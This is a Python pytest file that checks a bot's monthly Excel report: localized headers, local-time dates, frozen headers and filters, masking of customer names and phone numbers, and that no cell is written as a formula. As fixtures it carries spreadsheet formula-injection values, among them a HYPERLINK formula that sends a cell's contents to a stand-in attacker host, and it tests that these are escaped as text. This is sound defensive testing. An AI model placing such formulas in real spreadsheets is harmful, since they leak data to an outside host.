"""The monthly notice's workbook (bot.documents.workbook), read back with
openpyxl: headers per locale, real dates, frozen header and filters, masking,
no formulas, and the figures as given. The inputs are built by hand here."""

from __future__ import annotations

import io
import time
import zipfile
from datetime import UTC, date, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook
from openpyxl.cell.cell import Cell

from bot.core.monthly import (
    AgentFigures,
    AuditRow,
    BranchFigures,
    Correction,
    Counts,
    Month,
    MonthFigures,
    MonthItem,
    OwnerFigures,
    Trend,
)
from bot.documents.workbook import render_workbook
from bot.i18n import Catalog

SHANGHAI = ZoneInfo("Asia/Shanghai")
CUSTOMER = "王小明 13812345678"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"查看")'


def utc(text: str) -> datetime:
    return datetime.fromisoformat(text).replace(tzinfo=UTC)


# Owner 张伟（大件）: branches 上海分公司 and 杭州分公司. Owner "@Li Na": one branch.
SHANGHAI_COUNTS = Counts(posted=5, confirmed=2, deemed=1, disputed=2, upheld=1, overruled=1, open=0, fixed=3,
                         fixed_in_window=2, answer_median=timedelta(hours=1, minutes=30), fix_median=timedelta(hours=6), escalations=0)
HANGZHOU_COUNTS = Counts(posted=2, confirmed=1, deemed=0, disputed=0, upheld=0, overruled=0, open=1, fixed=0,
                         fixed_in_window=0, answer_median=timedelta(minutes=45), fix_median=None, escalations=0)
ZHANG_COUNTS = Counts(posted=7, confirmed=3, deemed=1, disputed=2, upheld=1, overruled=1, open=1, fixed=3,
                      fixed_in_window=2, answer_median=timedelta(hours=1), fix_median=timedelta(hours=6), escalations=2)
LI_COUNTS = Counts(posted=1, confirmed=0, deemed=0, disputed=1, upheld=1, overruled=0, open=0)
TOTALS = Counts(posted=8, confirmed=3, deemed=1, disputed=3, upheld=2, overruled=1, open=1, fixed=3, fixed_in_window=2,
                answer_median=timedelta(hours=1), fix_median=timedelta(hours=6), escalations=2)


def figures(*, per_item: int | None = 100) -> MonthFigures:
    return MonthFigures(
        month=Month(2026, 11),
        as_of=utc("2026-12-01 00:45"),
        per_item=per_item,
        owners=(
            OwnerFigures(
                owner="张伟（大件）",
                counts=ZHANG_COUNTS,
                branches=(BranchFigures("上海分公司", SHANGHAI_COUNTS), BranchFigures("-1+2", HANGZHOU_COUNTS)),
                trend=Trend(previous=4, current=5),
                penalty=None if per_item is None else 5 * per_item,
            ),
            OwnerFigures(owner="@Li Na", counts=LI_COUNTS, branches=(BranchFigures("苏州分公司", LI_COUNTS),),
                         trend=Trend(previous=None, current=0), penalty=None if per_item is None else 0),
        ),
        agents=(AgentFigures(agent="刘芳", posted=6, disputed=2, upheld=1, penalty=50, voided=1),
                AgentFigures(agent="+1", posted=2, disputed=1, upheld=1, penalty=50, voided=0)),
        corrections=(Correction(order_no="SO20261105", rejected_on=date(2026, 11, 4), agent="刘芳", owner="张伟（大件）",
                                at=utc("2026-11-05 02:00"), actor="U0CSLEAD", note="录错了，王小明其实是 13812345678 的家属",
                                customer=CUSTOMER),),
        totals=TOTALS,
    )


ITEMS = (
    MonthItem(
        id=1, order_no="SO20261127001", rejected_on=date(2026, 11, 26), branch="上海分公司", category="large",
        customer=CUSTOMER, callback_agent="刘芳", note=HYPERLINK + " 客户王小明说已收到，电话 13812345678",
        owner="张伟（大件）", digest_day=date(2026, 11, 27),
        history=(
            AuditRow(id=10, at=utc("2026-11-27 01:30"), actor="rejectbot", role="system", surface="scheduler", action="post",
                     from_status="new", to_status="awaiting"),
            AuditRow(id=11, at=utc("2026-11-27 03:05"), actor="U0ZHANG", role="owner", surface="modal", action="dispute",
                     from_status="awaiting", to_status="disputed", note="+1 司机说王小明不在家"),
            AuditRow(id=12, at=utc("2026-11-28 06:00"), actor="U0CSLEAD", role="cs_lead", surface="modal", action="overrule",
                     from_status="disputed", to_status="confirmed", note="-1+2 录音：王小明 138 1234 5678 已收货"),
        ),
    ),
    MonthItem(
        id=2, order_no="@SUM(1)", rejected_on=date(2026, 11, 29), branch="-1+2", category="small",
        customer="John Smith 021-12345678", callback_agent="+1", note="Mr. John Smith received it",
        owner="@Li Na", digest_day=date(2026, 11, 30),
    ),
)


def render(locale: str = "zh_CN", *, masked: bool = True, per_item: int | None = 100):
    data = render_workbook(figures(per_item=per_item), ITEMS, catalog=Catalog(locale), tz=SHANGHAI, masked=masked)
    return data, load_workbook(io.BytesIO(data))


def all_cells(book) -> list[Cell]:
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def text_of(book) -> str:
    return "\n".join(str(cell.value) for cell in all_cells(book))


def rows(sheet) -> list[tuple]:
    return [tuple(cell.value for cell in row) for row in sheet.iter_rows()]


# --- layout --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("locale", "sheets", "summary_head", "items_head"),
    [
        ("zh_CN", ["汇总", "明细"], ("负责人", "分公司", "通报件数", "确认", "逾期默认确认"),
         ("订单号", "拒收日期", "日报日期", "分公司", "配送类型", "负责人", "回访人", "客户", "回访备注", "时间", "操作人", "角色", "途径", "操作", "原状态", "新状态", "说明")),
        ("en", ["Summary", "Items"], ("Owner", "Branch", "Posted", "Confirmed", "Deemed confirmed"),
         ("Order no.", "Rejection date", "Digest day", "Branch", "Delivery type", "Owner", "Callback agent", "Customer", "Callback note",
          "Time", "Who", "Role", "Surface", "Action", "From", "To", "Note")),
    ],
)
def test_sheets_and_headers_are_in_the_catalogs_language(locale, sheets, summary_head, items_head) -> None:
    _, book = render(locale)
    assert book.sheetnames == sheets
    summary, items = book.worksheets
    assert rows(summary)[0][: len(summary_head)] == summary_head
    assert len(rows(summary)[0]) == 20
    assert rows(items)[0] == items_head
    assert all(cell.font.b for cell in summary[1])


def test_every_sheet_has_a_frozen_header_row_a_filter_and_sized_columns() -> None:
    _, book = render()
    summary, items = book.worksheets
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref
    # The summary's filter covers the owner and branch rows (header + 2 owners + 3 branches), not the total below.
    assert summary.auto_filter.ref == "A1:T6"
    assert items.auto_filter.ref == "A1:Q5"  # header + 3 audit rows + 1 item without history
    widths = {letter: items.column_dimensions[letter].width for letter in "ABCIJ"}
    assert widths["A"] >= len("SO20261127001")
    assert widths["B"] >= len("2026-11-26")
    assert widths["J"] >= len("2026-11-27 09:30")
    assert widths["I"] <= 50  # a long note does not make a column endless


def test_dates_and_times_are_real_excel_dates_in_local_time() -> None:
    _, book = render()
    items = book.worksheets[1]
    rejected_on, digest_day, at = items["B2"], items["C2"], items["J2"]
    assert rejected_on.is_date and rejected_on.value == datetime(2026, 11, 26)
    assert rejected_on.number_format == "yyyy-mm-dd"
    assert digest_day.is_date and digest_day.value == datetime(2026, 11, 27)
    # 01:30 UTC is 09:30 in Shanghai, written without a time zone (Excel has none).
    assert at.is_date and at.value == datetime(2026, 11, 27, 9, 30)
    assert at.number_format == "yyyy-mm-dd hh:mm"
    summary = book.worksheets[0]
    as_of = next(row[1] for row in summary.iter_rows() if row[0].value == "数据截至")
    assert as_of.is_date and as_of.value == datetime(2026, 12, 1, 8, 45)


# --- the items sheet ---------------------------------------------------------------------------


def test_one_row_per_audit_row_with_the_items_facts_on_each() -> None:
    _, book = render("en", masked=False)
    body = rows(book.worksheets[1])[1:]
    assert [r[0] for r in body] == ["SO20261127001", "SO20261127001", "SO20261127001", "'@SUM(1)"]
    first, dispute, overrule, bare = body
    assert first[3:9] == ("上海分公司", "large item", "张伟（大件）", "刘芳", CUSTOMER, "'" + ITEMS[0].note)
    assert first[10:16] == ("rejectbot", "system", "by the bot", "posted", "not posted yet", "awaiting answer")
    assert first[16] is None  # no note
    assert dispute[10:17] == ("U0ZHANG", "owner", "by form", "disputed", "awaiting answer", "❓ disputed", "'+1 司机说王小明不在家")
    assert overrule[12:14] == ("by form", "dispute overruled")
    assert overrule[11] == "CS lead"
    # An item without history still has its row, with no audit columns.
    assert bare[4] == "small item" and bare[9:] == (None,) * 8


def test_an_unknown_stored_value_is_shown_as_it_is() -> None:
    odd = MonthItem(id=3, order_no="SO3", rejected_on=date(2026, 11, 2), branch="b", category="medium", customer="", callback_agent="a",
                    note="", owner="o", digest_day=date(2026, 11, 3),
                    history=(AuditRow(id=1, at=utc("2026-11-03 01:00"), actor="x", role="robot", surface="email", action="teleport",
                                      from_status="", to_status="lost"),))
    data = render_workbook(figures(), [odd], catalog=Catalog("zh_CN"), tz=SHANGHAI, masked=True)
    (row,) = rows(load_workbook(io.BytesIO(data)).worksheets[1])[1:]
    assert row[4] == "medium"
    assert row[11:16] == ("robot", "email", "teleport", None, "lost")
    assert row[7] is None and row[8] is None  # empty customer and note: empty cells


# --- masking ---------------------------------------------------------------------------------


def test_the_channel_copy_masks_customer_data_everywhere() -> None:
    _, book = render(masked=True)
    text = text_of(book)
    for secret in ("王小明", "小明", "13812345678", "138 1234 5678", "John Smith", "12345678"):
        assert secret not in text, secret
    items = book.worksheets[1]
    assert items["H2"].value == "王* 138****5678"
    assert "王*" in items["I2"].value and "138****5678" in items["I2"].value  # the callback note
    assert items["Q4"].value == "'-1+2 录音：王* 138****5678 已收货"  # an audit note
    assert items["H5"].value.startswith("J*** S****")
    # The correction's reason, on the summary.
    assert any("王*" in str(cell.value) and "138****5678" in str(cell.value) for cell in book.worksheets[0]["G"])


def test_the_cs_leads_copy_is_unmasked() -> None:
    _, book = render(masked=False)
    text = text_of(book)
    for secret in ("王小明", "13812345678", "138 1234 5678", "John Smith 021-12345678", "录错了，王小明其实是 13812345678 的家属"):
        assert secret in text, secret


def test_masking_changes_nothing_but_customer_data() -> None:
    masked, unmasked = render(masked=True)[1], render(masked=False)[1]
    summary_masked, summary_plain = rows(masked.worksheets[0]), rows(unmasked.worksheets[0])
    differ = [(a, b) for a, b in zip(summary_masked, summary_plain, strict=True) if a != b]
    assert len(differ) == 1 and differ[0][1][0] == "SO20261105"  # only the correction's reason
    for a, b in zip(rows(masked.worksheets[1]), rows(unmasked.worksheets[1]), strict=True):
        assert a[:7] == b[:7] and a[9:16] == b[9:16]


# --- never a formula -------------------------------------------------------------------------


def test_hostile_values_are_written_as_text() -> None:
    data, book = render(masked=False)
    hostile = {HYPERLINK, "@SUM(1)", "-1+2", "+1", "@Li Na"}
    found = {}
    for cell in all_cells(book):
        for value in hostile:
            if isinstance(cell.value, str) and value in cell.value and cell.value.index(value) <= 1:
                found[value] = cell
    assert set(found) == hostile
    for cell in found.values():
        assert cell.data_type == "s"
        assert cell.value.startswith("'")
    note = book.worksheets[1]["I2"]
    assert note.data_type == "s" and note.value.startswith("'=HYPERLINK(")
    assert all(cell.data_type != "f" for cell in all_cells(book))
    # No formula element in any sheet of the file itself.
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


# --- the summary's figures -------------------------------------------------------------------------


def summary_table(book) -> dict[tuple, tuple]:
    """(owner, branch) → the row's figures (columns C on), for the owner and branch rows and the total."""
    table = {}
    for row in rows(book.worksheets[0])[1:]:
        if row[0] is None:
            break
        table[(row[0], row[1])] = row[2:]
    return table


def test_owner_and_branch_rows_show_the_figures_given() -> None:
    _, book = render("en")
    table = summary_table(book)
    assert list(table) == [("张伟（大件）", "all branches"), ("张伟（大件）", "上海分公司"), ("张伟（大件）", "'-1+2"),
                           ("'@Li Na", "all branches"), ("'@Li Na", "苏州分公司"), ("Total", None)]
    # posted, confirmed, deemed, disputed, upheld, overruled, open, mistaken, fixed, fixed in time, share,
    # answer median (h), fix median (h), escalations, penalty, previous, trend, change
    assert table[("张伟（大件）", "上海分公司")] == (5, 2, 1, 2, 1, 1, 0, 4, 3, 2, 2 / 3, 1.5, 6.0, 0, 400, None, None, None)
    assert table[("张伟（大件）", "'-1+2")] == (2, 1, 0, 0, 0, 0, 1, 1, 0, 0, None, 0.8, None, 0, 100, None, None, None)
    assert table[("张伟（大件）", "all branches")] == (7, 3, 1, 2, 1, 1, 1, 5, 3, 2, 2 / 3, 1.0, 6.0, 2, 500, 4, "↑", 0.25)
    assert table[("'@Li Na", "all branches")] == (1, 0, 0, 1, 1, 0, 0, 0, 0, 0, None, None, None, 0, 0, None, "→", None)
    assert table[("Total", None)][:15] == (8, 3, 1, 3, 2, 1, 1, 5, 3, 2, 2 / 3, 1.0, 6.0, 2, 500)


def test_number_formats_of_the_summary() -> None:
    _, book = render("en")
    summary = book.worksheets[0]
    owner_row = summary[2]
    assert owner_row[0].font.b and not summary[3][0].font.b  # owner rows bold, branch rows not
    assert owner_row[12].number_format == "0%"
    assert owner_row[13].number_format == "0.0"
    assert owner_row[16].number_format == "#,##0"
    assert owner_row[19].number_format == "+0%;-0%;0%"


def test_without_a_per_item_amount_there_is_no_logistics_money() -> None:
    _, book = render("en", per_item=None)
    table = summary_table(book)
    assert all(figures[14] is None for figures in table.values())
    lines = {row[0]: row[1] for row in rows(book.worksheets[0])}
    assert lines["Penalty per mistaken rejection (yuan)"] == "not set: counts only, no money"
    assert lines["Logistics penalties (yuan)"] == "not set: counts only, no money"
    assert lines["Customer service penalties (yuan)"] == 100


def test_cs_accuracy_corrections_and_totals_follow_the_owner_table() -> None:
    _, book = render("zh_CN", masked=False)
    all_rows = rows(book.worksheets[0])
    titles = [row[0] for row in all_rows]
    agents_at = titles.index("回访部自身准确性（按回访人）")
    assert all_rows[agents_at + 1][:6] == ("回访人", "通报件数", "被申诉", "申诉成立（回访有误）", "处罚金额（元）", "自行作废")
    assert all_rows[agents_at + 2][:6] == ("刘芳", 6, 2, 1, 50, 1)
    assert all_rows[agents_at + 3][:6] == ("'+1", 2, 1, 1, 50, 0)
    assert all_rows[agents_at + 4][:6] == ("合计", 8, 3, 2, 100, 1)
    corrections_at = titles.index("回访部自行更正（已作废的记录，不计为误拒单）")
    correction = all_rows[corrections_at + 2]
    assert correction[:7] == ("SO20261105", datetime(2026, 11, 4), "刘芳", "张伟（大件）", datetime(2026, 11, 5, 10, 0), "U0CSLEAD",
                              "录错了，王小明其实是 13812345678 的家属")
    lines = {row[0]: row[1] for row in all_rows}
    assert lines["月份"] == "2026-11"
    assert lines["每件误拒单处罚（元）"] == 100
    assert lines["物流处罚合计（元）"] == 500
    assert lines["回访部处罚合计（元）"] == 100


def test_a_month_without_corrections_says_so() -> None:
    empty = MonthFigures(month=Month(2026, 11), as_of=utc("2026-12-01 00:45"), per_item=None, owners=(), agents=())
    data = render_workbook(empty, [], catalog=Catalog("en"), tz=SHANGHAI, masked=True)
    book = load_workbook(io.BytesIO(data))
    titles = [row[0] for row in rows(book.worksheets[0])]
    assert "No corrections this month." in titles
    assert book.worksheets[0].auto_filter.ref == "A1:T1"
    assert rows(book.worksheets[1]) == [rows(book.worksheets[1])[0]]  # the header only


def test_the_same_figures_give_the_same_bytes_whenever_they_are_rendered() -> None:
    # A file is shared once per key; a resumed run renders it again and must get the very same file.
    first = render_workbook(figures(), ITEMS, catalog=Catalog("zh_CN"), tz=SHANGHAI, masked=True)
    time.sleep(1.1)  # a zip's member times and the document's "modified" have a resolution of seconds
    again = render_workbook(figures(), ITEMS, catalog=Catalog("zh_CN"), tz=SHANGHAI, masked=True)
    assert first == again
    assert render_workbook(figures(), ITEMS, catalog=Catalog("zh_CN"), tz=SHANGHAI, masked=False) != first
